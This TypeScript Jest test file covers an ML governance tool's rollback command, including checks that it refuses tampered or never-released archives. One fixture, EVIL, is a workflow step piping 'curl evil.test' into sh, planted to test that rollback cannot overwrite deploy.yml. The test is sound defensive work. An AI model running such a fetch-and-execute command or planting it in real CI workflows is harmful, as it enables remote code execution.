import { afterEach, describe, expect, it } from '@jest/globals';
import { execFileSync } from 'node:child_process';
import { mkdirSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { manifestDigest, sha256Hex } from '../../src/formats/canonical-digest.js';
import { verifyAuditLog } from '../../src/evidence/hash-chain.js';
import { createHistoryRepo, releaseFiles, rolledBack, writeRelease, type HistoryRepo } from '../evidence/fixtures.js';

let repo: HistoryRepo | undefined;
afterEach(() => {
  repo?.remove();
  repo = undefined;
});

const REASON = 'AUC dropped 8% on live traffic (INC-42)';

async function threeReleases(): Promise<HistoryRepo> {
  const r = createHistoryRepo();
  await r.release({ version: '1.0.0', at: '2025-02-01T10:00:00Z' });
  await r.release({ version: '1.1.0', at: '2025-03-01T10:00:00Z' });
  await r.release({ version: '1.2.0', at: '2025-04-01T10:00:00Z' });
  r.git('checkout', '-q', '-b', 'rollback');
  return r;
}

/** Everything in the working tree, tracked or not, with content digests: "nothing changed" means this is equal. */
function treeState(dir: string): string {
  execFileSync('git', ['add', '-A', '--intent-to-add'], { cwd: dir });
  const state = execFileSync('git', ['diff', '--stat', 'HEAD'], { cwd: dir, encoding: 'utf8' });
  execFileSync('git', ['reset', '-q'], { cwd: dir });
  return (
    state + execFileSync('git', ['status', '--porcelain', '--untracked-files=all'], { cwd: dir, encoding: 'utf8' })
  );
}

describe('mlgov rollback', () => {
  it('restores an archived release byte for byte (release and approvals aside), archives the replaced one and logs both', async () => {
    repo = await threeReleases();
    const archived = 'artifacts/fraud-detection/1.0.0';
    const archivedManifest = JSON.parse(readFileSync(join(repo.dir, archived, 'manifest.json'), 'utf8'));
    const r = await repo.mlgov(['rollback', '--to', '1.0.0', '--reason', REASON, '--base', 'main', '--actor', 'erin']);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('rolled back fraud-detection from 1.2.0 to 1.0.0');

    // The bias report is the archived one, byte for byte.
    expect(
      readFileSync(join(repo.dir, 'reports/latest-bias-report.json')).equals(
        readFileSync(join(repo.dir, archived, 'bias-report.json')),
      ),
    ).toBe(true);
    // The manifest is the archived one, with release replaced and approvals removed (and nothing else).
    const restored = JSON.parse(readFileSync(join(repo.dir, 'model/manifest.json'), 'utf8'));
    expect(restored.release).toEqual({ type: 'rollback', reason: REASON, rollbackOf: '1.2.0' });
    expect(restored.approvals).toBeUndefined();
    const { release: _r1, approvals: _a1, ...restRestored } = restored;
    const { release: _r2, approvals: _a2, ...restArchived } = archivedManifest;
    expect(restRestored).toEqual(restArchived);
    expect(Object.keys(restored)).toEqual(Object.keys(archivedManifest).filter((k) => k !== 'approvals'));
    expect(r.stdout).toContain(manifestDigest(restored));

    // The release it replaced (1.2.0) is archived, and verifies.
    const replaced = 'artifacts/fraud-detection/1.2.0';
    expect(readFileSync(join(repo.dir, replaced, 'manifest.json'), 'utf8')).toBe(
      repo.git('show', 'main:model/manifest.json'),
    );
    execFileSync('sha256sum', ['--quiet', '-c', `${replaced}/checksums.sha256`], { cwd: repo.dir });
    execFileSync('sha256sum', ['--quiet', '-c', `${archived}/checksums.sha256`], { cwd: repo.dir });

    const v = verifyAuditLog(readFileSync(join(repo.dir, 'artifacts/audit-log.jsonl'), 'utf8'));
    expect(v.ok).toBe(true);
    expect(v.events.slice(-2)).toEqual([
      expect.objectContaining({ action: 'archive', version: '1.2.0', actor: 'erin' }),
      expect.objectContaining({
        action: 'rollback',
        version: '1.0.0',
        actor: 'erin',
        reason: REASON,
        ticket: 'MLGOV-100',
        details: expect.objectContaining({ from: '1.2.0', to: '1.0.0', approvalsCleared: 2 }),
      }),
    ]);
  });

  it('prints the plan with --dry-run and changes nothing', async () => {
    repo = await threeReleases();
    const before = treeState(repo.dir);
    const r = await repo.mlgov(['rollback', '--to', '1.1.0', '--reason', REASON, '--base', 'main', '--dry-run']);
    expect(r.code).toBe(0);
    expect(r.stdout).toContain('would write model/manifest.json');
    expect(r.stdout).toContain('would append rollback event for fraud-detection 1.1.0');
    expect(treeState(repo.dir)).toBe(before);
  });

  it('refuses an unknown version, a short reason or the release in force, changing nothing', async () => {
    repo = await threeReleases();
    const before = treeState(repo.dir);

    const unknown = await repo.mlgov(['rollback', '--to', '0.9.0', '--reason', REASON, '--base', 'main']);
    expect(unknown.code).toBe(2);
    expect(unknown.stderr).toContain('fraud-detection 0.9.0 is not archived');
    expect(unknown.stderr).toContain('archived versions: 1.0.0, 1.1.0');
    expect(treeState(repo.dir)).toBe(before);

    const short = await repo.mlgov(['rollback', '--to', '1.0.0', '--reason', 'oops', '--base', 'main']);
    expect(short.code).toBe(2);
    expect(short.stderr).toContain('the policy asks at least 10 (promotion.minReasonLength)');
    expect(treeState(repo.dir)).toBe(before);

    const current = await repo.mlgov(['rollback', '--to', '1.2.0', '--reason', REASON, '--base', 'main']);
    expect(current.code).toBe(2);
    expect(current.stderr).toContain('already the release in force');

    const noArgs = await repo.mlgov(['rollback', '--reason', REASON]);
    expect(noArgs.code).toBe(2);
    expect(noArgs.stderr).toContain('--to is required');
  });

  it('restores a model file missing from the working tree from the commit the archive records', async () => {
    repo = await threeReleases();
    const weights = 'model/weights/1.0.0/model.onnx';
    const committed = readFileSync(join(repo.dir, weights));
    rmSync(join(repo.dir, weights));
    const recorded = JSON.parse(readFileSync(join(repo.dir, 'artifacts/fraud-detection/1.0.0/evidence.json'), 'utf8'))
      .source.gitCommit as string;
    const r = await repo.mlgov(['rollback', '--to', '1.0.0', '--reason', REASON, '--base', 'main']);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    expect(r.stdout).toContain(
      `restored ${weights} (${committed.length} bytes) from commit ${recorded.slice(0, 12)}, verified by its sha256 and size\n`,
    );
    expect(readFileSync(join(repo.dir, weights)).equals(committed)).toBe(true);
    execFileSync('sha256sum', ['--quiet', '-c', 'artifacts/fraud-detection/1.0.0/checksums.sha256'], { cwd: repo.dir });
  });

  it('keeps working when rollback-* folders exist: restores from the primary archive, and archives a replaced rollback beside its own', async () => {
    // 1.0.0 → 2.0.0 → rollback to 1.0.0 → rollback to 2.0.0 → rollback to 1.0.0 again → 3.0.0, all merged.
    repo = await rolledBack();
    const rb1 = JSON.parse(repo.git('show', 'main:model/manifest.json'));
    const folderOf = (m: object) => `rollback-${manifestDigest(m).slice(7, 19)}`;

    // From a rollback release back to 2.0.0: the rollback release replaced is archived in 1.0.0/rollback-<d12>/.
    await repo.rollback('2.0.0', '2025-05-01T10:00:00Z');
    expect(repo.git('show', `main:artifacts/fraud-detection/1.0.0/${folderOf(rb1)}/manifest.json`)).toBe(
      JSON.stringify(rb1, null, 2) + '\n',
    );
    const rb2 = JSON.parse(repo.git('show', 'main:model/manifest.json'));
    expect(rb2.release).toMatchObject({ type: 'rollback', rollbackOf: '1.0.0' });

    // Back to 1.0.0 once more: restored from the primary folder, not from its rollback-… folder.
    repo.git('checkout', '-q', '-b', 'again');
    const r = await repo.mlgov(['rollback', '--to', '1.0.0', '--reason', REASON, '--base', 'main', '--actor', 'erin']);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    const primary = JSON.parse(readFileSync(join(repo.dir, 'artifacts/fraud-detection/1.0.0/manifest.json'), 'utf8'));
    const restored = JSON.parse(readFileSync(join(repo.dir, 'model/manifest.json'), 'utf8'));
    expect(restored.release).toEqual({ type: 'rollback', reason: REASON, rollbackOf: '2.0.0' });
    const { release: _r1, approvals: _a1, ...restRestored } = restored;
    const { release: _r2, approvals: _a2, ...restPrimary } = primary;
    expect(restRestored).toEqual(restPrimary);
    expect(readFileSync(join(repo.dir, 'reports/latest-bias-report.json'), 'utf8')).toBe(
      readFileSync(join(repo.dir, 'artifacts/fraud-detection/1.0.0/bias-report.json'), 'utf8'),
    );
    // The 2.0.0 rollback release it replaced went beside 2.0.0's primary archive.
    expect(r.stdout).toContain(`wrote artifacts/fraud-detection/2.0.0/${folderOf(rb2)}/manifest.json`);
    // Unknown versions are listed without the rollback-… folders.
    const unknown = await repo.mlgov(['rollback', '--to', '0.9.0', '--reason', REASON, '--base', 'main']);
    expect(unknown.stderr).toContain('archived versions: 1.0.0, 2.0.0');
    repo.git('checkout', '-q', 'main');
    repo.git('branch', '-q', '-D', 'again');
    repo.git('checkout', '-q', '--', '.');
    repo.git('clean', '-qfd');

    await repo.rollback('1.0.0', '2025-06-01T10:00:00Z', REASON);
    const rb3 = JSON.parse(repo.git('show', 'main:model/manifest.json'));
    await repo.release({ version: '3.0.0', at: '2025-07-01T10:00:00Z' });

    // Two rollbacks of 1.0.0, two content-addressed folders; every checksum record verifies.
    expect(folderOf(rb1)).not.toBe(folderOf(rb3));
    expect(
      readdirSync(join(repo.dir, 'artifacts/fraud-detection/1.0.0'))
        .filter((f) => f.startsWith('rollback-'))
        .sort(),
    ).toEqual([folderOf(rb1), folderOf(rb3)].sort());
    const sums = repo.git('ls-files', '*/checksums.sha256').trim().split('\n');
    expect(sums).toHaveLength(5);
    for (const file of sums) execFileSync('sha256sum', ['--quiet', '-c', file], { cwd: repo.dir });
    expect(verifyAuditLog(readFileSync(join(repo.dir, 'artifacts/audit-log.jsonl'), 'utf8')).ok).toBe(true);

    // And the audit of the whole history passes, each rollback against its own archive.
    const audit = await repo.mlgov([
      'audit',
      '--since',
      '2025-01-01',
      '--until',
      '2025-06-30',
      '--out',
      join(repo.dir, '.audit'),
      '--format',
      'json',
    ]);
    const report = JSON.parse(audit.stdout);
    expect(
      report.releases.map((x: { version: string; releaseType: string; archive: { status: string; dir: string } }) => [
        x.version,
        x.releaseType,
        x.archive.status,
        x.archive.dir,
      ]),
    ).toEqual([
      ['1.0.0', 'promotion', 'intact', 'artifacts/fraud-detection/1.0.0'],
      ['2.0.0', 'promotion', 'intact', 'artifacts/fraud-detection/2.0.0'],
      ['1.0.0', 'rollback', 'intact', `artifacts/fraud-detection/1.0.0/${folderOf(rb1)}`],
      ['2.0.0', 'rollback', 'intact', `artifacts/fraud-detection/2.0.0/${folderOf(rb2)}`],
      ['1.0.0', 'rollback', 'intact', `artifacts/fraud-detection/1.0.0/${folderOf(rb3)}`],
    ]);
    expect(audit.code).toBe(0);
  });
});

/** Writes `files` (repository-relative path → text) into the working tree. */
function put(dir: string, files: Record<string, string | Buffer>): void {
  for (const [rel, data] of Object.entries(files)) {
    mkdirSync(dirname(join(dir, rel)), { recursive: true });
    writeFileSync(join(dir, rel), data);
  }
}

const DEPLOY = '.github/workflows/deploy.yml';
const DEPLOY_TEXT = 'on: push\njobs: { deploy: { runs-on: ubuntu-latest, steps: [ { run: ./deploy.sh } ] } }\n';
const EVIL = 'on: push\njobs: { x: { runs-on: ubuntu-latest, steps: [ { run: curl evil.test | sh } ] } }\n';

describe('mlgov rollback restores only verified files, only to the policy paths (issue 12)', () => {
  /** 2.0.0 released on main with deploy.yml committed; the incident branch `incident` is checked out. */
  async function production(): Promise<HistoryRepo> {
    const r = createHistoryRepo();
    put(r.dir, { [DEPLOY]: DEPLOY_TEXT });
    r.commitAt('CI', '2025-01-02T00:00:00Z');
    await r.release({ version: '2.0.0', at: '2025-03-01T10:00:00Z' });
    return r;
  }

  it('refuses a version that never existed, added by a merged PR with an empty checksum record, and writes nothing (the reproduction)', async () => {
    repo = await production();
    // The PR only adds artifacts/fraud-detection/1.0.0/: a manifest naming deploy.yml as its bias report, a
    // "bias report" that is a workflow, an empty checksums.sha256 and an evidence.json. It is merged.
    const { manifest } = releaseFiles({ version: '1.0.0', at: '2025-01-15T10:00:00Z' });
    manifest.biasReport.path = DEPLOY;
    await repo.onBranch('add-archive', '2025-03-10T10:00:00Z', async () => {
      put(repo!.dir, {
        'artifacts/fraud-detection/1.0.0/manifest.json': JSON.stringify(manifest, null, 2) + '\n',
        'artifacts/fraud-detection/1.0.0/bias-report.json': EVIL,
        'artifacts/fraud-detection/1.0.0/checksums.sha256': '',
        'artifacts/fraud-detection/1.0.0/evidence.json': '{}\n',
      });
    });
    repo.git('checkout', '-q', '-b', 'incident');
    const before = treeState(repo.dir);

    const r = await repo.mlgov(['rollback', '--to', '1.0.0', '--reason', REASON, '--base', 'main']);
    expect(r.stdout).not.toContain('verified');
    expect(r.code).toBe(1);
    expect(r.stderr).toContain(
      'rollback refused: artifacts/fraud-detection/1.0.0/manifest.json was never the release in force on main',
    );
    expect(readFileSync(join(repo.dir, DEPLOY), 'utf8')).toBe(DEPLOY_TEXT);
    expect(treeState(repo.dir)).toBe(before);
  });

  it('refuses an empty checksum record of a real archive, naming every uncovered file', async () => {
    repo = await threeReleases();
    repo.git('checkout', '-q', 'main');
    // An insider empties the record on the base branch.
    writeFileSync(join(repo.dir, 'artifacts/fraud-detection/1.0.0/checksums.sha256'), '');
    repo.commitAt('tidy', '2025-04-02T10:00:00Z');
    repo.git('checkout', '-q', '-b', 'incident');
    const before = treeState(repo.dir);

    const r = await repo.mlgov(['rollback', '--to', '1.0.0', '--reason', REASON, '--base', 'main']);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain(
      'artifacts/fraud-detection/1.0.0/checksums.sha256 does not cover every file of fraud-detection 1.0.0 (it is empty); ' +
        'not covered: artifacts/fraud-detection/1.0.0/manifest.json, artifacts/fraud-detection/1.0.0/bias-report.json, ' +
        'model/weights/1.0.0/model.onnx',
    );
    expect(treeState(repo.dir)).toBe(before);
  });

  it('refuses a partial record that leaves an artifact out, and a record whose digest is not the manifest’s', async () => {
    repo = await threeReleases();
    repo.git('checkout', '-q', 'main');
    const sumsFile = join(repo.dir, 'artifacts/fraud-detection/1.0.0/checksums.sha256');
    const full = readFileSync(sumsFile, 'utf8');
    writeFileSync(sumsFile, full.replace(/^.*model\/weights\/1\.0\.0\/model\.onnx\n/m, ''));
    repo.commitAt('tidy', '2025-04-02T10:00:00Z');
    repo.git('checkout', '-q', '-b', 'incident');
    const partial = await repo.mlgov(['rollback', '--to', '1.0.0', '--reason', REASON, '--base', 'main']);
    expect(partial.code).toBe(1);
    expect(partial.stderr).toContain('(2 line(s)); not covered: model/weights/1.0.0/model.onnx');

    // New weights with a record re-hashed to match them: the record no longer says what the archived manifest says.
    repo.git('checkout', '-q', 'main');
    writeFileSync(join(repo.dir, 'model/weights/1.0.0/model.onnx'), 'other weights\n');
    const other = sha256Hex(Buffer.from('other weights\n'));
    writeFileSync(sumsFile, full.replace(/^[0-9a-f]{64}(?= {2}model\/weights\/1\.0\.0\/model\.onnx$)/m, other));
    repo.commitAt('swap', '2025-04-03T10:00:00Z');
    repo.git('checkout', '-q', '-b', 'incident2');
    const swapped = await repo.mlgov(['rollback', '--to', '1.0.0', '--reason', REASON, '--base', 'main']);
    expect(swapped.code).toBe(1);
    expect(swapped.stderr).toContain(
      `records model/weights/1.0.0/model.onnx as ${other}, the archived release declares`,
    );
    expect(readFileSync(join(repo.dir, 'model/manifest.json'), 'utf8')).toBe(
      repo.git('show', 'main:model/manifest.json'),
    );
  });

  it('refuses an archive that is only in the working tree, or whose working-tree copy differs from the base', async () => {
    repo = await threeReleases();
    // Copy 1.1.0's real archive to an unreleased 0.9.0 folder, not committed.
    const fake = JSON.parse(readFileSync(join(repo.dir, 'artifacts/fraud-detection/1.1.0/manifest.json'), 'utf8'));
    fake.version = '0.9.0';
    put(repo.dir, { 'artifacts/fraud-detection/0.9.0/manifest.json': JSON.stringify(fake) });
    const onlyHere = await repo.mlgov(['rollback', '--to', '0.9.0', '--reason', REASON, '--base', 'main']);
    expect(onlyHere.code).toBe(1);
    expect(onlyHere.stderr).toContain('artifacts/fraud-detection/0.9.0/ is not on the base revision main');

    writeFileSync(join(repo.dir, 'artifacts/fraud-detection/1.0.0/checksums.sha256'), '');
    const edited = await repo.mlgov(['rollback', '--to', '1.0.0', '--reason', REASON, '--base', 'main']);
    expect(edited.code).toBe(1);
    expect(edited.stderr).toContain(
      'artifacts/fraud-detection/1.0.0/ in the working tree differs from the base revision main (checksums.sha256)',
    );
    expect(readFileSync(join(repo.dir, 'model/manifest.json'), 'utf8')).toBe(
      repo.git('show', 'main:model/manifest.json'),
    );
  });

  it('never writes the bias report to a path a released manifest names: refused when it is not the policy’s', async () => {
    repo = await production();
    // 1.5.0 was really released on main, with a manifest naming deploy.yml as its bias report; 2.1.0 archived it.
    await repo.onBranch('release-1.5.0', '2025-03-05T10:00:00Z', async () => {
      const m = writeRelease(repo!.dir, { version: '1.5.0', at: '2025-03-05T10:00:00Z' });
      m.biasReport.path = DEPLOY;
      put(repo!.dir, { 'model/manifest.json': JSON.stringify(m, null, 2) + '\n' });
    });
    await repo.release({ version: '2.1.0', at: '2025-03-06T10:00:00Z' });
    repo.git('checkout', '-q', '-b', 'incident');
    const before = treeState(repo.dir);
    const r = await repo.mlgov(['rollback', '--to', '1.5.0', '--reason', REASON, '--base', 'main']);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain(
      `artifacts/fraud-detection/1.5.0/manifest.json names the bias report ${DEPLOY}, not the policy's reports/latest-bias-report.json`,
    );
    expect(readFileSync(join(repo.dir, DEPLOY), 'utf8')).toBe(DEPLOY_TEXT);
    expect(treeState(repo.dir)).toBe(before);
  });

  it('refuses when the working tree policy moves the paths it writes to', async () => {
    repo = await threeReleases();
    const policy = join(repo.dir, '.github/governance-policy.yml');
    writeFileSync(
      policy,
      readFileSync(policy, 'utf8').replace('biasReport: reports/latest-bias-report.json', `biasReport: ${DEPLOY}`),
    );
    const before = treeState(repo.dir);
    const r = await repo.mlgov(['rollback', '--to', '1.0.0', '--reason', REASON, '--base', 'main']);
    expect(r.code).toBe(1);
    expect(r.stderr).toContain(
      `moves model.biasReport (reports/latest-bias-report.json on main, ${DEPLOY} here); write commands write only to the base policy's paths`,
    );
    expect(treeState(repo.dir)).toBe(before);
  });

  it('reports how many files it verified, all of them covered by the record', async () => {
    repo = await threeReleases();
    const r = await repo.mlgov(['rollback', '--to', '1.0.0', '--reason', REASON, '--base', 'main', '--format', 'json']);
    expect(r.code).toBe(0);
    expect(JSON.parse(r.stdout).verified).toEqual([
      'model/weights/1.0.0/model.onnx',
      'artifacts/fraud-detection/1.0.0/manifest.json',
      'artifacts/fraud-detection/1.0.0/bias-report.json',
    ]);
  });
});
